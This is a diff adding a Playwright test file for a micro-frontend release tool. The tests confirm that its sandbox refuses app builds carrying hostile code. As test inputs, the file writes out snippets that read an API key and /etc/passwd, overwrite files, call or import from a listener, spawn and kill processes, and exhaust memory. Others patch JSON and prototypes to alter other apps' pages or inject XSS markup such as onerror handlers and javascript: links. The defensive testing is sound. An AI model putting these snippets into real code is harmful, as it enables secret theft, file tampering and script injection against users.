@@ -1,0 +1,176 @@
+import { existsSync } from 'node:fs';
+import { readdir, readFile, rm, writeFile } from 'node:fs/promises';
+import { createServer, type Server } from 'node:net';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import { expect, test } from '@playwright/test';
+import type { BuiltApp } from '@cobblestone/build/build-app.ts';
+import type { RemoteName } from '@cobblestone/contracts/app-names.ts';
+import { releaseParts } from '../../shell/stitch/commands.ts';
+import { readRelease } from '../../shell/store/records.ts';
+import { currentPublication } from '../../shell/store/publication-log.ts';
+import { blobKey } from '../../shell/store/store.ts';
+import { changeFile, copyStore, takeBuild, type StoreCopy } from './store-copy.ts';
+
+test.describe.configure({ timeout: 240_000 });
+
+let copy: StoreCopy;
+let outside: Server;
+let connections = 0;
+let victim: { file: string; bytes: Buffer };
+let published: string[];
+
+test.beforeAll(async () => {
+  copy = await copyStore();
+  copy.settings.checkouts = join(copy.folder, 'releases');
+  outside = createServer((socket) => {
+    connections += 1;
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
+  const live = (await currentPublication(copy.store))!;
+  const tours = await readRelease(copy.store, 'tours', live.set.tours);
+  const file = join(copy.settings.storeFolder, blobKey(tours.files['server/routes.mjs']!.blob));
+  victim = { file, bytes: await readFile(file) };
+  published = await readdir(join(copy.settings.storeFolder, 'publications'));
+  process.env.RESEND_API_KEY = 'a secret';
+});
+test.afterAll(async () => {
+  delete process.env.RESEND_API_KEY;
+  outside.close();
+  await copy.remove();
+});
+// Nothing happened, whatever was tried.
+test.afterEach(async () => {
+  expect(connections).toBe(0);
+  expect(await readFile(victim.file)).toEqual(victim.bytes);
+  expect(existsSync(join(copy.folder, 'written'))).toBe(false);
+  expect(await readdir(join(copy.settings.storeFolder, 'publications'))).toEqual(published);
+});
+
+/** Releases a build that must be refused. @returns the lines that its author gets */
+async function refusalOf(build: BuiltApp, pageLimit?: number): Promise<string> {
+  const error = await releaseParts([build.app], { ...copy.settings, pageLimit }, () => {}, { build: async () => build, over: true }).then(
+    () => undefined,
+    (refused: Error) => refused,
+  );
+  await rm(build.folder, { recursive: true });
+  return error?.message ?? 'It was not refused.';
+}
+
+/** The live release of an app, whose code does something more as soon as it is loaded. */
+async function withCode(app: RemoteName, code: string): Promise<BuiltApp> {
+  const build = await takeBuild(copy, app, 'build');
+  const file = join(build.folder, 'server/routes.mjs');
+  await writeFile(file, `${await readFile(file, 'utf8')}\n${code}`);
+  return build;
+}
+
+/** The live release of engagement, some of whose pages do something else when they are rendered. */
+async function withPages(pages: Record<string, string>): Promise<BuiltApp> {
+  const build = await takeBuild(copy, 'engagement', 'build');
+  for (const [name, body] of Object.entries(pages)) {
+    await changeFile(build, `server/mfe-engagement_src_pages_${name}_tsx.chunk.mjs`, /Page: \(\) => \(.*?\)/, `Page: () => (function Page() { ${body} })`);
+  }
+  return build;
+}
+
+const html = (markup: string) =>
+  `return { $$typeof: Symbol.for('react.transitional.element'), type: 'div', key: null, props: { dangerouslySetInnerHTML: { __html: ${JSON.stringify(markup)} } } };`;
+
+test('what is denied is named, also where the code hides that it tried: secrets, files, connections, programs', async () => {
+  const { port } = outside.address() as AddressInfo;
+  const tries = [
+    'process.env.RESEND_API_KEY',
+    `(await import('node:fs')).writeFileSync(${JSON.stringify(victim.file)}, 'evil')`,
+    `(await import('node:fs')).writeFileSync(${JSON.stringify(join(copy.folder, 'written'))}, 'evil')`,
+    `(await import('node:fs')).readFileSync('/etc/passwd')`,
+    `await fetch('http://127.0.0.1:${port}/')`,
+    `await new Promise((done, fail) => import('node:net').then(({ connect }) => connect(${port}, '127.0.0.1', done).on('error', fail)))`,
+    `await new Deno.Command('/usr/bin/touch', { args: [${JSON.stringify(join(copy.folder, 'written'))}] }).output()`,
+    `await import('http://127.0.0.1:${port}/code.mjs')`,
+    'process.kill(process.ppid, 9)',
+  ];
+  const message = await refusalOf(await withCode('blog', tries.map((code) => `try { ${code}; } catch {}`).join('\n')));
+  expect(message).toContain('- blog reads the environment (RESEND_API_KEY)');
+  expect(message).toContain(`- blog writes a file (${victim.file})`);
+  expect(message).toContain('- blog reads a file that is not its own (/etc/passwd)');
+  expect(message).toContain(`- blog opens a connection (127.0.0.1:${port})`);
+  expect(message).toContain('- blog starts or ends a program (/usr/bin/touch)');
+  expect(message).toContain(`- blog loads code from elsewhere (http://127.0.0.1:${port}/code.mjs)`);
+  expect(message).not.toMatch(/- (shell|tours|engagement)/);
+});
+
+test('a page that does such a thing when it is rendered is refused in the same way', async () => {
+  const message = await refusalOf(await withPages({ contact: 'return process.env.RESEND_API_KEY;', survey: 'process.kill(process.ppid, 9);' }));
+  expect(message).toContain('- engagement reads the environment (RESEND_API_KEY)');
+  expect(message).toMatch(/- engagement: \/survey throws: NotCapable: Requires run access/);
+});
+
+test('what takes all memory, in heap or in buffers, or ends its process, is named; the rest is given up then', async () => {
+  const message = await refusalOf(
+    await withPages({
+      contact: 'const kept = []; for (;;) kept.push(new Array(100_000).fill({}).map(() => ({})));',
+      survey: 'const kept = []; for (;;) kept.push(Buffer.alloc(32_000_000, 1));',
+      petition: 'process.exit(0);',
+    }),
+    60_000,
+  );
+  expect(message).toMatch(/- engagement takes more than \d+ MB of JavaScript's memory \(\/contact\)/);
+  expect(message).toMatch(/- engagement takes more than 1024 MB of memory \(\/survey\)/);
+  expect(message).toContain('- engagement ends the process that renders it (/petition-jerry-fox)');
+  expect(message).toContain('pages were not tried: 3 pages hang, or end the process that renders them');
+});
+
+test('code that never comes to an end, or ends the process, when it is loaded', async () => {
+  expect(await refusalOf(await withCode('blog', 'for (;;);'), 2500)).toContain('- blog: its code hangs: it was not done after 7.5 seconds');
+  expect(await refusalOf(await withCode('blog', 'process.exit(0);'))).toContain('- blog ends the process that renders it');
+});
+
+test('answers that the code writes itself', async () => {
+  const frame = JSON.stringify({ id: 1, result: { routes: [] } });
+  expect(await refusalOf(await withCode('blog', `(await import('node:fs')).writeSync(1, ${JSON.stringify(`${frame}\n`)});`))).toMatch(/- blog (writes into the answers|changes which pages other apps have)/);
+  expect(await refusalOf(await withPages({ contact: "console.log('a word'); process.stdout.write('rubbish\\n'); return null;" }))).toContain('- engagement writes into the answers of the process that renders it (/contact)');
+});
+
+test('what an app changes of the pages of others, by whatever it patches', async () => {
+  const shared = "const shared = globalThis[Symbol.for('cobblestone.shared')];";
+  const patches = {
+    'the answers': `const json = JSON.stringify; JSON.stringify = (...all) => json(...all).replaceAll('Cobblestone', '<script>alert(1)</script>');`,
+    'strings': `const native = String.prototype.replace; String.prototype.replace = function (...all) { return native.apply(native.call(this, 'Petition', 'Pardon'), all); };`,
+    'React for those that come after': `${shared} const jsx = shared['@emotion/react/jsx-runtime']; const made = (type, props, key) => jsx.jsx(type, type === 'h1' ? { ...props, id: 'taken' } : props, key); shared['@emotion/react/jsx-runtime'] = { ...jsx, jsx: made, jsxs: made };`,
+    'lists': `const native = Array.prototype.map; Array.prototype.map = function (...all) { const made = native.apply(this, all); return this.length > 2 && this[0]?.label ? made.slice(1) : made; };`,
+    'the style of all': `const keys = Object.keys; Object.keys = (value) => { if (value?.['animation-x'] === undefined && keys(value ?? {}).some((id) => typeof value[id] === 'string' && value[id].startsWith('.cc-'))) value.owned = 'body{display:none}'; return keys(value); };`,
+  };
+  for (const [name, code] of Object.entries(patches)) {
+    const message = await refusalOf(await withCode('blog', code));
+    expect([name, message]).toEqual([name, expect.stringMatching(/- blog (changes|styles|adds|takes)/)]);
+    expect([name, message]).toEqual([name, expect.not.stringMatching(/- (shell|tours|engagement)/)]);
+  }
+});
+
+test('scripts, handlers and markup that breaks out of its place', async () => {
+  const heading = '<h1>Contact</h1>';
+  const message = await refusalOf(
+    await withPages({
+      contact: html(`${heading}<img src="/x" onerror="alert(1)"><a href="java&#10;script:alert(1)">go</a><script>alert(1)</script>`),
+      survey: html(`${heading}</div></div></div><p>Out of place</p>`),
+      petition: html(`${heading}<iframe src="https://elsewhere.example/"></iframe><form action="https://elsewhere.example/"></form><base href="https://elsewhere.example/">`),
+    }),
+  );
+  expect(message).toContain('- engagement puts a handler into the page: onerror of <img> (/contact)');
+  expect(message).toContain('- engagement puts an address that is no page\'s into the page: href="java script:alert(1)" of <a> (/contact)');
+  expect(message).toContain('- engagement puts a script into the page (/contact)');
+  expect(message).toMatch(/- engagement changes what is not its own: .* \(\/survey\)/);
+  expect(message).toContain('- engagement puts a frame of https://elsewhere.example/ into the page (/petition-jerry-fox)');
+  expect(message).toContain('- engagement sends a form to https://elsewhere.example/ (/petition-jerry-fox)');
+  expect(message).toContain('- engagement puts <base> into the page (/petition-jerry-fox)');
+});
+
+test('addresses and files that are another app’s', async () => {
+  const message = await refusalOf(
+    await withCode('engagement', `const all = __webpack_exports__routes; all.push({ path: '/blog', load: all[0].load }); all[0].addresses = async () => [{ address: '/tours?mine' }];`),
+  );
+  expect(message).toContain('- blog and engagement both claim the page /blog');
+  expect(message).toContain('- engagement claims the address /tours?mine, which is tours\'s, but has no page for it');
+});
